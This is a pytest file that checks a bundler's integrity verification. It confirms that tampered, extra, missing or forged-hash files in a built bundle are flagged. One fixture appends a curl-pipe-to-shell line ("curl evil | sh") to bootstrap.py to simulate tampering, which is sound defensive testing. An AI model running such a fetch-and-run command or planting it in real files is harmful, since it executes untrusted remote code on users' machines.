"""``bundler verify`` says ok only when every file is the one the build wrote and nothing else is there."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

import bundler
from runtime.contract.manifest import Manifest
from tests.support.bundler_fixtures import make_fixture_index
from tests.support.packages import make_wheel

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, project_wheel: Path) -> Path:
    """ko-lib with kaggle-offline's own wheel, verified clean."""
    root = tmp_path_factory.mktemp("integrity")
    result = bundler.build(
        ["ko-lib"],
        root / "house",
        cache_dir=root / "cache",
        index_url=make_fixture_index(root),
        include_self=project_wheel,
        dataset_id="tester/ko-wheels",
    )
    assert bundler.verify(result.output_dir) == []
    return result.output_dir


@pytest.fixture
def house(built: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "house"
    shutil.copytree(built, copy)
    assert bundler.verify(copy) == []
    return copy


def _append(path: Path, text: str) -> None:
    with path.open("a", encoding="utf-8") as stream:
        stream.write(text)


EDITS: dict[str, tuple[Callable[[Path], None], list[str]]] = {
    "bootstrap-runs-code": (
        lambda h: _append(h / "bootstrap.py", "\nimport os; os.system('curl evil | sh')\n"),
        ["bootstrap.py: not the file the build wrote (it is the first code a kernel runs)"],
    ),
    "lock-extra-line": (
        lambda h: _append(h / "requirements.lock", "evil==6.6.6\n"),
        [
            "requirements.lock: not the file the build wrote",
            "requirements.lock: holds requirement lines besides the manifest's pins",
        ],
    ),
    "extra-top-level-file": (
        lambda h: (h / "setup.py").write_text("print('hi')\n"),
        ["setup.py: not written by the build"],
    ),
    "extra-file-in-wheels": (
        lambda h: (h / "wheels" / "sitecustomize.py").write_text("print('hi')\n"),
        ["sitecustomize.py: not written by the build"],
    ),
    "bootstrap-removed": (
        lambda h: (h / "bootstrap.py").unlink(),
        ["bootstrap.py: missing (the build wrote it)"],
    ),
}


@pytest.mark.parametrize("edit", sorted(EDITS))
def test_verify_refuses_any_file_the_build_did_not_write(house: Path, edit: str) -> None:
    change, expected = EDITS[edit]
    change(house)

    problems = bundler.verify(house)

    for line in expected:
        assert any(line in problem for problem in problems), (line, problems)
    assert all("\n" not in problem for problem in problems)


def test_an_edited_bootstrap_with_a_forged_hash_differs_from_the_runtimes_own(house: Path) -> None:
    """The manifest's record edited too: bootstrap.py is still compared with its own wheel's."""
    bootstrap = house / "bootstrap.py"
    _append(bootstrap, "\nprint('also mine')\n")
    data = json.loads((house / "manifest.json").read_text())
    (entry,) = [item for item in data["files"] if item["name"] == "bootstrap.py"]
    entry["sha256"] = hashlib.sha256(bootstrap.read_bytes()).hexdigest()
    entry["size"] = bootstrap.stat().st_size
    (house / "manifest.json").write_text(json.dumps(data))

    (problem,) = bundler.verify(house)

    assert problem.startswith(f"{bootstrap}: differs from the bootstrap.py of its own wheel ")
    assert "rebuild with `python -m bundler build ko-lib --target kaggle-py312 -o " in problem


def test_a_manifest_without_file_hashes_is_refused_with_the_command_that_rebuilds_it(
    house: Path,
) -> None:
    data = json.loads((house / "manifest.json").read_text())
    del data["files"]  # what every build before this field wrote
    (house / "manifest.json").write_text(json.dumps(data))

    assert bundler.verify(house) == [
        f"{house / 'manifest.json'}: its build (kaggle-offline {bundler.__version__}) recorded no "
        "hashes of requirements.lock, bootstrap.py, dataset-metadata.json, so they cannot be "
        f"verified; rebuild with `python -m bundler build ko-lib --target kaggle-py312 -o {house}`"
    ]


def test_a_wheel_whose_metadata_contradicts_its_name_fails_verify(
    house: Path, tmp_path: Path
) -> None:
    (wheel,) = (house / "wheels").glob("ko_lib-*.whl")
    version = wheel.name.split("-")[1]
    liar = make_wheel(tmp_path / "liar", "ko-lib", version, metadata_version="9.9")
    wheel.write_bytes(liar.read_bytes())
    manifest = Manifest.load(house / "manifest.json")
    entries = tuple(
        dataclasses.replace(
            e, sha256=hashlib.sha256(liar.read_bytes()).hexdigest(), size=liar.stat().st_size
        )
        if e.filename == wheel.name
        else e
        for e in manifest.wheels
    )
    dataclasses.replace(manifest, wheels=entries).dump(house / "manifest.json")

    problems = bundler.verify(house)

    assert any(
        f"{wheel}: the file name says ko-lib {version} but its METADATA says ko-lib 9.9" in p
        for p in problems
    ), problems
